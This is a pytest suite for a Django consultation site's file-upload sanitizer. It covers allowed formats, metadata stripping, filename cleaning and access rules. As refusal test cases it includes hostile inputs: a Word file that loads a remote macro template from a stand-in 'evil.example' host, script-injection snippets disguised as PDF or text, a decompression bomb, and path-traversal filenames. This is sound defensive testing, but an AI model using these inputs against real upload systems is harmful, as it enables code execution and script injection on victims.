from __future__ import annotations

import io
import re
import uuid
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from contributions import uploads
from contributions.models import Attachment, Contribution, Visibility
from contributions.uploads import RefusedFileError, cleaned
from tests.conftest import make_user
from tests.contributions.making_files import (
    PDF,
    archive,
    moving_picture,
    open_text,
    photo_with_place,
    picture,
    signed_open_text,
    signed_sheet,
    signed_word,
    upload,
    word,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def post_url(room):
    return reverse("contributions:contribute", args=[room.consultation.slug, room.slug])


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("Annex.pdf", PDF, "application/pdf"),
        ("letter.docx", word(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("letter.odt", open_text(), "application/vnd.oasis.opendocument.text"),
        ("figures.csv", "año;más\n1;2\n".encode(), "text/csv"),
        ("old.csv", "año;más\n".encode("cp1252"), "text/csv"),
        ("notes.txt", "﻿Words".encode(), "text/plain"),
        ("wide.txt", "Слова".encode("utf-16"), "text/plain"),
        ("street.png", picture("PNG"), "image/png"),
        ("street.webp", picture("WEBP"), "image/webp"),
    ],
)
def test_what_people_work_with_is_taken(name, content, content_type):
    assert cleaned(name, content).content_type == content_type


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("page.html", b"<html></html>"),
        ("all.zip", archive({"a.txt": "a"})),
        ("letter.docm", word()),
        ("letter.docx", word(**{"word/vbaProject.bin": b"x"})),
        ("letter.docx", word(**{"word/activeX/activeX1.xml": b"x"})),
        (
            "letter.docx",
            word(
                **{
                    "word/_rels/settings.xml.rels": '<Relationship Type="…/attachedTemplate" '
                    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                }
            ),
        ),
        ("letter.docx", archive({"a.txt": "a"})),
        ("letter.docx", PDF),
        ("letter.odt", open_text(**{"Basic/script-lc.xml": "x"})),
        ("bomb.docx", word(**{"word/media/zero.bin": b"\0" * (201 * 1024 * 1024)})),
        ("report.pdf", b"<html><script>alert(1)</script>"),
        ("notes.txt", b" <!DOCTYPE html><script>alert(1)</script>"),
        ("notes.txt", "<svg onload=alert(1)>".encode("utf-16")),
        ("figures.csv", b"\x00\x01\x02"),
        ("run.exe", b"MZ"),
        ("noending", b"words"),
        ("empty.txt", b""),
        ("street.png", b"<svg/>"),
        ("street.png", picture("JPEG")),
        ("street.jpg", picture("JPEG")[:200]),
    ],
)
def test_what_may_do_harm_is_refused_by_name(name, content):
    with pytest.raises(RefusedFileError, match=name.replace(".", r"\.")):
        cleaned(name, content)


def test_a_photograph_loses_its_place_and_stands_upright():
    photo = photo_with_place()
    assert b"Petro" in photo

    taken = cleaned("street.jpg", photo)

    assert (taken.width, taken.height) == (20, 40)
    assert b"Petro" not in taken.content
    assert b"taken at home" not in taken.content
    assert not Image.open(io.BytesIO(taken.content)).getexif()


def test_a_moving_picture_still_moves():
    taken = cleaned("steps.gif", moving_picture(3))

    assert Image.open(io.BytesIO(taken.content)).n_frames == 3


def test_a_picture_of_too_many_pixels_is_refused():
    with pytest.raises(RefusedFileError, match="40 megapixels"):
        cleaned("huge.png", picture("PNG", (8000, 5001)))


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        (r"C:\Users\me\Annex.pdf", "Annex.pdf"),
        ("../../etc/Annex.pdf", "Annex.pdf"),
        ("An\u202enex\x07.pdf", "Annex.pdf"),
        ('a"b;c.pdf', "a b c.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("étude.pdf", "étude.pdf"),
    ],
)
def test_names_are_shown_cleaned(name, kept):
    assert cleaned(name, PDF).name == kept


def test_a_file_is_posted_with_its_contribution_and_shown_with_it(enter, join, post_url, media):
    client = enter(join("petro"))

    client.post(post_url, {"text": "See the annex.", "files": upload("Annex.pdf", PDF)})

    contribution = Contribution.objects.get()
    file = contribution.attachments.get()
    assert (file.name, file.content_type, file.sent_by) == (
        "Annex.pdf",
        "application/pdf",
        contribution.author.user,
    )
    assert Path(file.file.path).is_relative_to(media)
    assert "Annex" not in file.file.name
    answer = client.get(reverse("contributions:file", args=[contribution.pk, file.guid, file.name]))
    assert b"".join(answer.streaming_content) == PDF
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Disposition"] == 'attachment; filename="Annex.pdf"'


def test_a_picture_is_shown_in_the_room_but_to_those_who_save_data(client, join, say, room):
    petro, key = join("petro"), uuid.uuid4()
    sent = uploads.receive(petro.user, key, [upload("street.png", picture("PNG"))]).files[0]
    Attachment.objects.filter(pk=sent.pk).update(alt="A flooded street")
    say(petro, "Our street.", form_key=key, attachments=[sent.guid])
    url = reverse("contributions:room", args=[room.consultation.slug, room.slug])

    shown = client.get(url).text
    saved = client.get(url, headers={"Save-Data": "on"}).text

    assert re.search(r'<img [^>]*alt="A flooded street" width="40" height="20" loading="lazy"', shown)
    assert "<img" not in saved
    assert "street.png</bdi></a> (PNG," in saved
    assert "A flooded street" in saved


def test_a_picture_waits_until_it_is_described(enter, join, post_url):
    client = enter(join("petro"))
    key = str(uuid.uuid4())
    form = {"text": "Our street.", "form_key": key, "files": upload("street.jpg", picture())}

    first = client.post(post_url, form)

    assert first.status_code == 422
    told = "Describe the image street.jpg, or tick &#x27;decoration only&#x27;"
    assert f'<li><a href="#id_files_error">{told}</a></li>' in first.text
    assert f'<ul class="errorlist" id="id_files_error"><li>{told}</li>' in first.text
    assert "Our street.</textarea>" in first.text
    assert not Contribution.objects.exists()
    guid = Attachment.objects.get().guid
    words = {f"title_{guid}": " The street ", f"alt_{guid}": "A flooded street"}
    client.post(post_url, {"text": "Our street.", "form_key": key} | words)
    file = Contribution.objects.get().attachments.get()
    assert (file.title, file.alt, file.is_decoration) == ("The street", "A flooded street", False)


def test_decoration_needs_no_description(enter, join, post_url):
    client = enter(join("petro"))
    key = str(uuid.uuid4())
    client.post(post_url, {"action": "attach", "form_key": key, "files": upload("street.jpg", picture())})
    guid = Attachment.objects.get().guid

    client.post(post_url, {"text": "X.", "form_key": key, f"title_{guid}": "", f"decoration_{guid}": "on"})

    assert Contribution.objects.get().attachments.get().is_decoration


def test_files_are_added_and_removed_before_anything_is_checked(enter, join, post_url):
    client = enter(join("petro"))
    key = str(uuid.uuid4())

    added = client.post(
        post_url, {"action": "attach", "text": "", "form_key": key, "files": upload("Annex.pdf", PDF)}
    )
    guid = Attachment.objects.get().guid
    removed = client.post(post_url, {"action": "attach", "form_key": key, f"remove_{guid}": "on"})

    assert (added.status_code, "Annex.pdf" in added.text) == (200, True)
    assert (removed.status_code, "Annex.pdf" in removed.text) == (200, False)
    assert not Attachment.objects.exists()


def test_files_stay_with_the_form_through_preview_and_errors(enter, join, post_url):
    client = enter(join("petro"))
    key = str(uuid.uuid4())

    refused = client.post(post_url, {"text": "", "form_key": key, "files": upload("Annex.pdf", PDF)})
    title = re.search(r'name="(title_[^"]+)"', refused.text)[1]
    preview = client.post(
        post_url, {"text": "Words.", "form_key": key, "action": "preview", title: "The annex"}
    )
    client.post(post_url, {"text": "Words.", "form_key": key, "kept_files": "1"})

    assert refused.status_code == 422
    assert "Annex.pdf" in refused.text
    assert "The annex" in preview.text
    assert 'name="kept_files" value="1"' in preview.text
    assert Contribution.objects.get().attachments.count() == 1


def test_too_many_and_too_big_are_refused_with_the_text_kept(enter, join, post_url, settings):
    settings.FILES_PER_CONTRIBUTION, settings.LARGEST_FILE = 1, 1000
    client = enter(join("petro"))
    files = [
        upload("one.pdf", PDF),
        upload("two.pdf", PDF + b"2"),
        upload("three.pdf", b"%PDF-" + b"x" * 2000),
    ]

    answer = client.post(post_url, {"text": "Kept words.", "files": files})

    assert answer.status_code == 422
    assert "two.pdf is one file too many" in answer.text
    assert "Kept words.</textarea>" in answer.text

    settings.FILES_PER_CONTRIBUTION = 5
    answer = client.post(
        post_url, {"text": "Kept words.", "files": upload("big.pdf", b"%PDF-" + b"x" * 2000)}
    )
    assert "Choose a file smaller than" in answer.text


def test_a_file_of_somebody_else_is_never_attached(client, join, post_url):
    petro, carlos = join("petro"), join("carlos")
    key = uuid.uuid4()
    sent = uploads.receive(carlos.user, key, [upload("Secret.pdf", PDF)]).files[0]
    client.force_login(petro.user, backend="consultation.people.backend.ActivePeopleBackend")

    page = client.post(post_url, {"action": "preview", "text": "Mine.", "form_key": str(key)}).text
    client.post(post_url, {"text": "Mine.", "form_key": str(key), f"remove_{sent.guid}": "on"})

    assert "Secret.pdf" not in page
    assert not Contribution.objects.get().attachments.exists()
    assert default_storage.exists(Attachment.objects.get().file.name)


@pytest.fixture
def with_file(join, say):
    petro = join("petro")
    key = uuid.uuid4()
    sent = uploads.receive(petro.user, key, [upload("Annex.pdf", PDF)]).files[0]
    contribution = say(petro, "See the annex.", form_key=key, attachments=[sent.guid])
    return reverse("contributions:file", args=[contribution.pk, sent.guid, "Annex.pdf"]), contribution


@pytest.mark.parametrize(
    ("visibility", "who", "status"),
    [
        (Visibility.VISIBLE, None, 200),
        (Visibility.HIDDEN, None, 404),
        (Visibility.HIDDEN, "carlos", 404),
        (Visibility.HIDDEN, "petro", 200),
        (Visibility.HIDDEN, "nadia", 200),
        (Visibility.HELD, "carlos", 404),
        (Visibility.HELD, "nadia", 200),
        (Visibility.WITHDRAWN, "petro", 404),
        (Visibility.WITHDRAWN, "nadia", 404),
    ],
)
def test_a_file_is_read_by_whoever_reads_its_contribution(
    visibility, who, status, client, enter, join, with_file
):
    url, contribution = with_file
    Contribution.objects.filter(pk=contribution.pk).update(visibility=visibility)
    reader = enter(join(who)) if who else client

    answer = reader.get(url)

    assert answer.status_code == status
    if answer.streaming:
        answer.getvalue()


def test_a_file_is_found_under_its_own_contribution_only(client, join, say, with_file):
    url, contribution = with_file
    other = say(join("carlos"), "Other.")

    assert client.get(url.replace(f"/{contribution.pk}/", f"/{other.pk}/")).status_code == 404


def test_a_file_of_an_invited_only_consultation_is_404_to_strangers(client, with_file, open_consultation):
    open_consultation.audience = "invited"
    open_consultation.save()

    assert client.get(with_file[0]).status_code == 404


def test_a_file_whose_bytes_are_lost_says_so(client, with_file):
    file = Attachment.objects.get()
    file.file.storage.delete(file.file.name)

    gone = client.get(with_file[0])
    assert gone.status_code == 410
    assert 'href="/consultations/">Consultations</a>' in gone.text


def test_files_never_posted_are_swept_after_a_day(join, with_file):
    user = join("petro").user
    old = uploads.receive(user, uuid.uuid4(), [upload("old.pdf", PDF)]).files[0]
    new = uploads.receive(user, uuid.uuid4(), [upload("new.pdf", PDF)]).files[0]
    Attachment.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(hours=25))
    Attachment.objects.filter(contribution__isnull=False).update(
        created_at=timezone.now() - timedelta(hours=25)
    )

    assert uploads.sweep(timezone.now()) == 1

    assert {file.name for file in Attachment.objects.all()} == {"Annex.pdf", "new.pdf"}
    assert not default_storage.exists(old.file.name)
    assert default_storage.exists(new.file.name)


def test_a_stranger_without_a_place_here_sends_files_too(enter, post_url):
    client = enter(make_user("giulia"))

    client.post(post_url, {"text": "Court data.", "files": upload("figures.csv", b"a;b\n1;2\n")})

    assert Contribution.objects.get().attachments.get().name == "figures.csv"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("letter.docx", signed_word("Petra Unik")),
        ("table.xlsx", signed_sheet("Petra Unik")),
        ("letter.odt", signed_open_text("Petra Unik")),
    ],
)
def test_a_document_is_kept_without_the_names_of_those_who_made_it(name, content):
    kept = cleaned(name, content).content

    with zipfile.ZipFile(io.BytesIO(kept)) as after, zipfile.ZipFile(io.BytesIO(content)) as before:
        assert after.namelist() == before.namelist()
        text = b"".join(after.read(part) for part in after.namelist())
    assert b"Petra" not in text
    if name == "letter.docx":
        assert b"<dc:title>Letter</dc:title>" in text
        assert b"<Pages>2</Pages>" in text
    assert cleaned(name, kept).content == kept
